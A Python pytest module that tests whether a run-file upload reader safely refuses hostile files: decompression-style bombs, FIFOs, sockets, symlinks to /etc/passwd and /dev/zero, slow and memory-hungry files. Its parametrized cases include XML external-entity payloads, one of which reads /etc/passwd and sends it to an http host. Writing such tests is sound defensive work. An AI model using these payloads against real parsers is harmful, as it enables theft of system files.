"""Files made to do harm: each ends with a sentence, and costs nothing of what lies beside it."""

import os
import socket
from collections.abc import Iterator
from datetime import date
from pathlib import Path

import pytest

from app.adapters.run_files import Readers, Reading, parts
from app.adapters.run_files.reader import Limits
from tests.adapters.run_files.bombs import BOMBS, Bomb
from tests.adapters.run_files.bombs.fit import slow
from tests.adapters.run_files.bombs.xml import headed, words
from tests.adapters.run_files.samples_of import TCX
from tests.adapters.run_files.told import is_sentence, reasons

TODAY = date(2026, 9, 1)
ZONE = "Europe/Berlin"
MIB = 1024**2


@pytest.fixture(scope="module")
def readers() -> Iterator[Readers]:
    with Readers(1) as found:
        yield found


@pytest.fixture
def upload(tmp_path: Path) -> Path:
    """A folder with one good file, deep enough for names that climb to stay in sight."""
    found = tmp_path / "in/some/upload"
    found.mkdir(parents=True)
    (found / "good.tcx").write_bytes(TCX)
    return found


def lying(folder: Path) -> dict[str, tuple[int, int]]:
    """All that lies below a folder, with sizes and times."""
    found = {path: path.lstat() for path in folder.rglob("*")}
    return {str(path): (at.st_size, at.st_mtime_ns) for path, at in found.items()}


def read(readers: Readers, upload: Path) -> list[Reading]:
    """What an upload gives, once the good file in it was read and everything was told in sentences."""
    found = list(readers.read(list(parts(upload, readers.rows)), ZONE, TODAY))
    assert [len(each.runs) for each in found if each.name == "good.tcx"] == [1]
    assert all(map(is_sentence, reasons(found))), reasons(found)
    return found


@pytest.mark.parametrize(
    "bomb",
    [pytest.param(each, marks=[pytest.mark.soak] if each.heavy else []) for each in BOMBS],
    ids=lambda bomb: bomb.kind,
)
def test_bomb_ends_with_a_sentence_and_costs_nothing_of_what_is_beside_it(
    bomb: Bomb, readers: Readers, upload: Path, tmp_path: Path
):
    (upload / bomb.name).write_bytes(bomb.make())
    before = lying(tmp_path)

    found = read(readers, upload)

    assert lying(tmp_path) == before
    assert sum(len(each.runs) for each in found) == 1 + bomb.runs
    told = reasons(found)
    assert [reason for reason in told if bomb.says in reason] if bomb.says else not told


def test_what_lies_in_a_folder_and_is_no_file_is_not_opened(readers, upload, tmp_path):
    os.mkfifo(upload / "pipe.fit")
    with socket.socket(socket.AF_UNIX) as made:
        here = os.open(upload, os.O_RDONLY)
        made.bind(f"/proc/self/fd/{here}/socket.gpx")  # the whole path is longer than one may be
        os.close(here)
    os.symlink("/dev/zero", upload / "device.fit")
    os.symlink("/etc/passwd", upload / "passwd.csv")
    os.symlink("/etc", upload / "folder")
    os.symlink("loop.gpx", upload / "loop.gpx")

    found = read(readers, upload)

    told = {each.name: reasons([each]) for each in found if not each.runs}
    assert sorted(told) == ["device.fit", "folder", "loop.gpx", "passwd.csv", "pipe.fit", "socket.gpx"]
    assert all("no ordinary file" in reason for (reason,) in told.values())


@pytest.mark.parametrize(
    ("name", "head"),
    [
        ("b.gpx", '<!DOCTYPE gpx [<!ENTITY a SYSTEM "http://{}/">]>'),
        ("b.gpx", '<!DOCTYPE gpx SYSTEM "http://{}/a.dtd">'),
        ("b.gpx", '<!DOCTYPE gpx PUBLIC "-//a//EN" "http://{}/a.dtd" [<!ENTITY a "b">]>'),
        ("b.gpx", '<!DOCTYPE gpx [<!ENTITY % p SYSTEM "http://{}/p.dtd"> %p;]>'),
        ("b.tcx", '<!DOCTYPE l [<!ENTITY % f SYSTEM "file:///etc/passwd"><!ENTITY % e SYSTEM "http://{}/?%f;">]>'),
        ("b.tcx", '<?xml-stylesheet href="http://{0}/a.xsl"?><!DOCTYPE l [<!NOTATION n SYSTEM "http://{0}/">]>'),
    ],
    ids=["entity", "document type", "public document type", "parameter", "parameter of a file", "notation"],
)  # fmt: skip
def test_file_that_names_another_is_refused_and_nobody_is_called(readers, upload, name, head):
    with socket.socket() as listening:
        listening.bind(("127.0.0.1", 0))
        listening.listen()
        listening.setblocking(False)
        at = f"127.0.0.1:{listening.getsockname()[1]}"
        (upload / name).write_bytes(headed(head.format(at)))

        found = read(readers, upload)

        assert [reason for reason in reasons(found) if "names of its own" in reason]
        with pytest.raises(BlockingIOError):
            listening.accept()


def test_file_that_takes_too_long_is_left_and_its_child_replaced(upload):
    (upload / "b.fit").write_bytes(slow())
    with Readers(1, Limits(cpu_s=0)) as readers:
        found = read(readers, upload)

    assert ["took too long" in reason for reason in reasons(found)] == [True]


@pytest.mark.soak
def test_file_that_takes_more_than_twenty_seconds_of_a_processor_is_left(upload):
    (upload / "b.fit").write_bytes(slow())
    with Readers(1, Limits(wall_s=3600)) as readers:
        found = read(readers, upload)

    assert ["took too long" in reason for reason in reasons(found)] == [True]


def test_file_that_fills_the_memory_is_left_and_its_child_replaced(upload):
    (upload / "b.gpx").write_bytes(words())
    with Readers(1, Limits(resident_bytes=80 * MIB)) as readers:
        found = read(readers, upload)

    assert ["more memory" in reason for reason in reasons(found)] == [True]
